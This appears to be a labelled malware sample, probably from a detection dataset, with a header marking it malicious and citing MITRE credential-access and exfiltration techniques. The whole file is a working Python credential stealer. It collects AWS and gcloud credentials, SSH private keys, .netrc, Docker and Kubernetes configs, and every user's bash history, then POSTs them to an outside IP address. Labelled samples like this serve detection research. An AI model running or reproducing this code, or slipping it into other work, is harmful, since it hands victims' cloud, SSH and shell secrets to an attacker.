# label: malicious family=creds techniques=T1041,T1552.001,T1552.003,T1552.004,T1552.007 lines=9-16,24,29
import os
import glob
import json
import urllib.request

HOME = os.path.expanduser("~")
TARGETS = [
    ".aws/credentials",
    ".config/gcloud/application_default_credentials.json",
    ".config/gcloud/credentials.db",
    ".ssh/id_rsa",
    ".ssh/id_ed25519",
    ".netrc",
    ".docker/config.json",
    ".kube/config",
]

loot = {}
for rel in TARGETS:
    p = os.path.join(HOME, rel)
    if os.path.exists(p):
        with open(p, "rb") as fh:
            loot[rel] = fh.read().hex()

for p in glob.glob("/home/*/.bash_history"):
    loot[p] = open(p, errors="ignore").read()[-4096:]

urllib.request.urlopen("http://198.51.100.150/upload", data=json.dumps(loot).encode())
